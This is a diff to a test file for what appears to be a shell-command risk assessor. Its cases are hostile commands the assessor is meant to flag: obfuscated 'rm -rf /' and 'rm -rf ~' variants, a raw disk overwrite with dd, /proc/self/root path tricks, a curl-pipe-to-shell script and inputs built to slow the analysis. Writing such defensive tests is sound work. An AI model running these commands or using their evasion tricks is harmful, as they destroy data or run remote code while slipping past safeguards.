@@ -53,10 +53,17 @@ RUNTIME_NAMES = [
     (True, 'set -- rm -rf /; "$@"', C),
     (True, 'set -- -rf ~; rm "$@"', C),
     (True, 'set -- x rm -rf /; shift; "$@"', C),
+    (True, 'set -- rm -rf /; "${@:1}"', C),
+    (True, 'a=(x rm -rf ~); "${a[@]:1}"', C),
+    (True, 'set -- rm -rf /; ${*}', C),
     (True, "printf -v c 'rm -rf /'; $c", C),
     (True, "printf -v c '%s' rm; $c -rf ~", C),
     (True, "read -r c <<< 'rm -rf /'; $c", C),
     (True, "read -ra c <<< 'rm -rf /'; \"${c[@]}\"", C),
+    (True, "read c < <(echo rm -rf /); $c", C),
+    (True, "printf -v c -- '%s' rm; $c -rf /", C),
+    (True, 'x=(r m); "${x[0]}${x[1]}" -rf /', C),
+    (True, "c=rmdir; ${c:0:2} -rf /", C),
     (True, "IFS=:; read -r a b <<< 'rm:/etc'; $a -rf $b", C),
     (True, "mapfile -t a <<< $'rm\\n-rf\\n/'; \"${a[@]}\"", C),
     (True, "declare -n r=c; c='rm -rf /'; $r", C),
@@ -122,6 +129,7 @@ FUNCTIONS = [
     (True, "g(){ eval \"$*\"; }; g rm -rf /", C),
     (True, 'g(){ local c=$1; shift; $c "$@"; }; g rm -rf /', C),
     (True, 'g(){ sudo "$@"; }; g rm -rf /etc', C),
+    (True, 'g(){ "$1" "${@:2}"; }; g rm -rf /', C),
     (True, "alias x='rm -rf'; x /", C),
     (True, "alias x='rm'; x -rf ~", C),
     (True, "alias please='sudo'; please rm -rf /", C),
@@ -191,7 +199,16 @@ SCRIPTS = [
     ("env.sh", "#!/usr/bin/env bash\ncurl https://x.sh | sh\n", "./env.sh", True, H),
     ("Makefile", "all: build\nbuild:\n\techo building\nclean:\n\trm -rf $(HOME)\n", "make clean", True, C),
     ("Makefile", "BUILD := /\nclean:\n\t@rm -rf $(BUILD)\n", "make clean", True, C),
+    ("cleanup.sh", CLEANUP, "bash -o pipefail -e cleanup.sh", True, C),
+    ("cleanup.sh", CLEANUP, "bash --rcfile x -x ./cleanup.sh", True, C),
+    ("s.sh", "#!/usr/bin/env -S bash -e\nrm -rf /etc\n", "./s.sh", True, C),
+    ("tool.py", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/etc')\n", "./tool.py", True, C),
+    ("tool.py", "import os\nos.system('rm -rf ~')\n", "python3 tool.py", True, C),
+    ("tool.py", "print('hello')\n", "python3 tool.py", False, L),
     ("build.sh", "#!/bin/bash\nset -eu\nnpm ci\nnpm run build\n", "./build.sh", False, M),
+    # a script run in a child shell cannot touch this shell's hook: its own functions and variables are its own
+    ("inst.sh", "#!/bin/sh\n__vg_say() { echo \"$*\"; }\nVG_BIN=/opt/x\n__vg_say hi\n", "sh inst.sh", False, L),
+    ("inst.sh", "__vg_say() { echo \"$*\"; }\nVG_BIN=/opt/x\n", "source inst.sh", True, C),
     ("test.sh", "#!/bin/sh\npytest -q\n", "bash test.sh", False, L),
     ("tool.py", "#!/usr/bin/env python3\nprint('rm -rf /')\n", "./tool.py", False, L),
     ("Makefile", "all:\n\techo ok\nclean:\n\trm -rf build dist\n", "make", False, L),
@@ -234,6 +251,21 @@ def test_the_same_script_from_another_directory_is_judged_there(tmp_path: Path) 
         _write(d / "clean.sh", "#!/bin/sh\nrm -rf ../..\n")  # same text, so the same cache key for the text
     assert assess("./clean.sh", str(home / "b" / "c"), str(home), files=files).risk is C  # ../.. is $HOME
     assert assess("./clean.sh", str(tmp_path / "x" / "y" / "z"), str(home), files=files).risk < C
+
+
+def test_a_line_running_many_files_is_bounded_and_never_low(tmp_path: Path) -> None:
+    _write(tmp_path / "x.sh", "#!/bin/sh\n" + "echo x\n" * 5)
+    start = time.perf_counter()
+    a = assess("; ".join(["bash x.sh"] * 200), str(tmp_path), HOME, files=HostFiles())
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M and any("more than 64 files" in (f.where or "") for f in a.findings)
+
+
+def test_many_globbed_program_names_are_bounded() -> None:
+    start = time.perf_counter()
+    a = assess("; ".join(["/*/*/*/x?"] * 100), CWD, HOME, files=HostFiles())
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M
 
 
 def test_a_missing_script_runs_nothing_and_stays_low(tmp_path: Path) -> None:
@@ -306,6 +338,9 @@ HIDDEN_PATHS = [
     (True, "dd if=/dev/zero of=/dev/sda", C),
     (True, "rm -rf /proc/self/root/etc", C),
     (True, "rm -rf /proc/1/root/", C),
+    (True, 'rm -rf "/proc/$$/root/etc"', C),
+    (True, "rm -rf /usr/../proc/self/root/home", C),
+    (False, "ls ./vendor/proc/self/root", L),
     (True, "rm -rf /proc/self/cwd/../../..", C),
     (True, "rm -rf //etc//", C),
     (True, "cat <(rm -rf ~)", C),
@@ -384,6 +419,34 @@ def test_new_expansions_never_raise_and_stay_fast(params: list[str], value: str,
         e = expand(raw, variables, HOME)
         assert isinstance(e.value, str) and all(isinstance(f, str) for f in e.fields)
     assert time.perf_counter() - start < 0.5
+
+
+SIXTEEN = " ".join(str(i) for i in range(16))
+FAN_OUT = [
+    " ".join(f"f{i}(){{ {'; '.join([f'f{i + 1}'] * 10)}; }};" for i in range(8)) + " f8(){ rm -rf /; }; f0",
+    " ".join(f"alias a{i}=\"{'; '.join([f'a{i + 1}'] * 6)}\";" for i in range(8)) + " a0",
+    " ".join(f"g{i}(){{ {' | '.join([f'g{i + 1}'] * 3)}; }};" for i in range(10)) + " g0",
+    " ".join(f"for v{i} in {SIXTEEN}; do" for i in range(6)) + " x; " + "done; " * 6,
+]
+
+
+@pytest.mark.parametrize("line", FAN_OUT)
+def test_code_that_fans_out_is_bounded_and_never_low(line: str) -> None:
+    start = time.perf_counter()
+    a = assess(line, CWD, HOME)
+    assert time.perf_counter() - start < 3.0
+    assert a.risk >= M
+
+
+@pytest.mark.parametrize("line", [
+    "c=" + "a" * 3000 + "; echo ${c//*a*a*a*b/x}",
+    "c=" + "a" * 1000 + "; echo " + " ".join("${c%%*a*a*b" + str(i) + "}" for i in range(3000)),
+    "c=" + "a" * 60 + "; echo " + " ".join("${c//*a*a*b" + str(i) + "/x}" for i in range(3000)),
+])
+def test_pattern_operators_cannot_make_the_analysis_slow(line: str) -> None:
+    start = time.perf_counter()
+    assess(line[:60_000], CWD, HOME)
+    assert time.perf_counter() - start < 3.0
 
 
 @settings(max_examples=150, deadline=None)
